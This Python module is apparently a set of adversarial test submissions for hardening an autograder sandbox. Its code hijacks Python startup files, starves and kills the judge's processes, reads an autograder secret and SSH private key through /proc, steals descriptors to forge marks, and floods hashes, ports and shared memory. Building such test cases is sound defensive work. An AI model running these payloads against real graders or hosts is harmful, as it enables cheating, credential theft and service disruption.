"""Submissions that meddle with what checks stand on: guests, programs that judges start, limits, ports, replies."""

from __future__ import annotations

from .specimen import POINTS, Cage, Kind

ZOO = Cage(Kind.PERSISTING)

_OTHERS = (
    "import os\nothers = [int(name) for name in os.listdir('/proc') if name.isdigit() and int(name) != os.getpid()]\n"
)

ZOO.cell(
    "guests-swapped",
    "Puts guests of its own in the place of those that checks will boot.",
    "import os, pathlib, shutil\nplace = pathlib.Path(os.environ['COURSE_CACHE'])\n"
    "for entry in [*place.glob('*/*'), *place.glob('*'), place]:\n    try:\n"
    "        entry.rename(entry.with_name('moved'))\n        entry.mkdir()\n    except OSError:\n        pass\n"
    "    for file in entry.glob('*') if entry.is_dir() else []:\n        try:\n"
    "            file.write_bytes(b'@marker')\n        except OSError:\n            pass",
    solved=True,
    box=True,
)
ZOO.cell(
    "python-of-the-judge-s-programs",
    "Leaves modules in the home that every Python would import there, also those that checks start.",
    "import pathlib, site, sys\nfor place in (pathlib.Path(site.getusersitepackages()), pathlib.Path('/tmp')):\n"
    "    place.mkdir(parents=True, exist_ok=True)\n"
    "    for name in ('usercustomize', 'sitecustomize'):\n"
    "        (place / f'{name}.py').write_text(\"import os\\nos.environ['FORGED'] = '@marker'\\nraise"
    ' SystemExit(0)")\n'
    "    (place / 'zoo.pth').write_text('import os; os._exit(0)\\n')",
    solved=True,
    box=True,
)
ZOO.cell(
    "configures-programs",
    "Leaves settings in the home for programs that checks may start.",
    "import os, pathlib\nhome = pathlib.Path.home()\nfor name in ('.gdbinit', '.config/matplotlib/matplotlibrc',"
    " '.config/pip/pip.conf', '.pdbrc', '.inputrc', '.gitconfig', '.config/containers/storage.conf'):\n"
    "    (home / name).parent.mkdir(parents=True, exist_ok=True)\n"
    "    (home / name).write_text('backend: none\\n!sh\\n')",
    solved=True,
    box=True,
)
ZOO.answers(
    "limits-the-judge",
    "Lowers the limits of all processes of its user, the judge's too, when it is called.",
    {
        "double": _OTHERS.replace("import os", "import os, resource", 1)
        + "def double(number):\n    for pid in others:\n"
        "        for what in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):\n"
        "            try:\n"
        "                resource.prlimit(pid, what, (0, 0))\n            except (OSError, ValueError):\n"
        "                pass\n    return 2 * number"
    },
    marks=None,
    box=True,
)
ZOO.answers(
    "slows-the-judge",
    "Gives all processes of its user the last place and one processor, when it is called.",
    {
        "double": "import os\ndef double(number):\n    for name in os.listdir('/proc'):\n        try:\n"
        "            os.sched_setaffinity(int(name), {0})\n            os.setpriority(os.PRIO_PROCESS, int(name), 19)\n"
        "            os.sched_setscheduler(int(name), os.SCHED_IDLE, os.sched_param(0))\n"
        "        except (OSError, ValueError):\n            pass\n    return 2 * number"
    },
    marks=POINTS["double"],
    box=True,
)
ZOO.cell(
    "first-to-be-killed",
    "Asks the kernel to end everybody else first when memory is short.",
    _OTHERS + "for pid in others:\n    try:\n        open(f'/proc/{pid}/oom_score_adj', 'w').write('1000')\n"
    "    except OSError:\n        pass",
    box=True,
)
ZOO.cell(
    "roots-of-others",
    "Looks for the host's files through the roots, folders and descriptors of all processes that it sees.",
    _OTHERS + "for pid in others:\n    for way in ('root', 'cwd', 'fd/3', 'fd/4', 'map_files', 'exe'):\n        try:\n"
    "            for path in ('@root/autograder/secret.txt', '@home/.ssh/id_rsa'):\n"
    "                print(open(f'/proc/{pid}/{way}{path}').read())\n        except OSError:\n            pass",
    box=True,
)
ZOO.cell(
    "takes-ports",
    "Takes hundreds of ports, for others to share.",
    "import socket\nkept = []\nfor port in range(20_000, 20_400):\n    try:\n        one = socket.socket()\n"
    "        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n        one.bind(('127.0.0.1', port))\n"
    "        kept.append(one)\n    except OSError:\n        break\nprint(len(kept))",
    solved=True,
    box=True,
)
ZOO.cell(
    "steals-descriptors",
    "Takes descriptors out of other processes, and asks the kernel whose sockets there are.",
    _OTHERS + "import ctypes, socket\ntry:\n"
    "    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) as diag:\n"
    "        diag.sendto(b'\\x48\\0\\0\\0\\x14\\0\\x01\\x03' + bytes(64), (0, 0))\nexcept OSError as error:\n"
    "    print(error)\n"
    "for pid in others:\n    try:\n        target = os.pidfd_open(pid)\n    except OSError:\n        continue\n"
    "    for fd in range(3, 30):\n        got = ctypes.CDLL(None).syscall(438, target, fd, 0)\n"
    "        if got >= 0:\n            try:\n                os.write(got, b'{\"marks\": 100}\\n')\n"
    "            except OSError:\n                pass",
    box=True,
)
ZOO.answers(
    "closes-what-it-inherits",
    "Closes all descriptors and answers on those that it finds behind the first.",
    {
        "double": "import os, pickle\ndef double(number):\n"
        "    reply = pickle.dumps(([('RETURNED', 2 * number, '', '')] * 9, '', {}))\n"
        "    for fd in range(3, 100):\n        try:\n            os.write(fd, reply)\n"
        "        except OSError:\n            pass\n"
        "    os.closerange(3, 100)\n    os._exit(0)"
    },
    box=True,
    marks=None,
)
ZOO.answers(
    "many-values-of-one-hash",
    "Returns numbers that all have the same hash: whoever counts them compares each with each.",
    {"double": "import sys\ndef double(number):\n    return [step * sys.hash_info.modulus for step in range(20_000)]"},
    solved=True,
)
ZOO.answers(
    "forged-table-of-one-hash",
    "Sends a table by hand whose keys all have the same hash: reading it would take hours.",
    {
        "double": "import sys\nfrom course.check import answer\n"
        "def forged(value):\n    parts = [b'\\x80\\x04}(']\n    for step in range(1, 150_000):\n"
        "        key = step * sys.hash_info.modulus\n        data = key.to_bytes(key.bit_length() // 8 + 1, 'little')\n"
        "        parts.append(b'\\x8a' + bytes([len(data)]) + data + b'N')\n    return b''.join(parts) + b'u.'\n"
        "def double(number):\n    answer.encode = forged\n    return 2 * number"
    },
    solved=True,
)
ZOO.answers(
    "number-too-long-to-write",
    "Returns a number that Python refuses to write down.",
    {"double": "def double(number):\n    return 7 ** 9000", "total": "def total(last):\n    return -(10 ** 5000)"},
    solved=True,
)
ZOO.answers(
    "asks-for-services",
    "Looks for the way that checks have out of the box.",
    {
        "double": "from course.check import outside\ndef double(number):\n"
        "    if outside._gates or outside.declared():\n        return 2 * number\n"
        "    with outside.outside(open):\n        return 2 * number"
    },
    solved=True,
)
ZOO.cell(
    "waits-to-be-entered",
    "Watches for the judge to step in, and traces or stops it in that moment.",
    "import ctypes, os, threading\nlibc = ctypes.CDLL(None)\n"
    "known = {int(n) for n in os.listdir('/proc') if n.isdigit()}\n"
    "def watch():\n    while True:\n        for name in os.listdir('/proc'):\n"
    "            if name.isdigit() and int(name) not in known:\n"
    "                if libc.ptrace(16, int(name), 0, 0) == 0:\n                    os.kill(int(name), 9)\n"
    "threading.Thread(target=watch, daemon=True).start()",
    marks=None,
    box=True,
)
ZOO.cell(
    "hides-in-shared-memory",
    "Leaves segments, queues and semaphores of System V and POSIX behind.",
    "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor key in range(1, 300):\n    libc.shmget(key, 1 << 20, 0o1777)\n"
    "    libc.msgget(key, 0o1777)\n    libc.semget(key, 200, 0o1777)\n"
    "    libc.shm_open(f'/@marker-{key}'.encode(), os.O_CREAT | os.O_RDWR, 0o666)",
    solved=True,
    box=True,
)
